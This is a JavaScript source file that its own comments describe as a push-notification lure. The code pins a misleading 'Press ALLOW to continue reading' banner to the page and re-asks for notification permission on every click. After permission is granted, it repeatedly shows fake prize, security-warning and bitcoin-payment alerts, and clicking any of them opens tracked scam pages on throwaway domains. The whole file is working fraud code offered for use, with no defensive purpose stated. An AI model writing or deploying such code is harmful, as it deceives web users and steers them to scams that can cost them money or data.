// push-notification-lure: repeated permission nagging plus locally generated fake alerts that open scam pages
// ES5, short names; no service worker: uses page-level Notification objects while the tab stays open
var _n = window.Notification;
var _lp = [
  'https://winner-prize-center.top/c/?id=',
  'https://secure-device-check.xyz/alert/?id=',
  'https://crypto-bonus-claim.click/r/?id='
];
var _msgs = [
  ['Congratulations!', 'You have been selected to receive an iPhone 15 Pro. Claim before it expires.'],
  ['Security warning', 'Your browser is outdated and your data is at risk. Update now.'],
  ['Payment received', 'You received 0.0421 BTC. Tap to withdraw to your wallet.']
];
var _uid = (localStorage.getItem('_nq') || Math.random().toString(36).slice(2, 10));
localStorage.setItem('_nq', _uid);

function _go(i) {
  var u = _lp[i % _lp.length] + _uid;
  var w = window.open(u, '_blank');
  if (!w) location.href = u;
}

function _show(i) {
  var m = _msgs[i % _msgs.length];
  try {
    var x = new _n(m[0], { body: m[1], icon: '/favicon.ico', requireInteraction: true, tag: 'n' + i });
    x.onclick = function () {
      window.focus();
      _go(i);
      x.close();
    };
  } catch (e) {}
}

function _loop() {
  var i = 0;
  _show(i++);
  setInterval(function () {
    if (document.visibilityState === 'hidden') _show(i++);
  }, 45000);
}

function _ask() {
  if (!_n || _n.permission === 'denied') return;
  if (_n.permission === 'granted') return _loop();
  var r = _n.requestPermission(function (p) { if (p === 'granted') _loop(); });
  if (r && r.then) r.then(function (p) { if (p === 'granted') _loop(); });
}

// "Allow to continue" strip pinned to the top of the page
function _strip() {
  var s = document.createElement('div');
  s.style.cssText = 'position:fixed;top:0;left:0;right:0;padding:14px;background:#ffcc00;color:#000;' +
    'font:bold 15px sans-serif;text-align:center;z-index:2147483647;cursor:pointer';
  s.textContent = 'Press ALLOW to continue reading \u2191';
  s.onclick = _ask;
  document.body.appendChild(s);
}

if (_n && _n.permission !== 'denied') {
  _strip();
  // every click anywhere re-triggers the prompt until it is accepted
  document.addEventListener('click', function () {
    if (_n.permission === 'default') _ask();
  }, true);
  setTimeout(_ask, 2000);
}
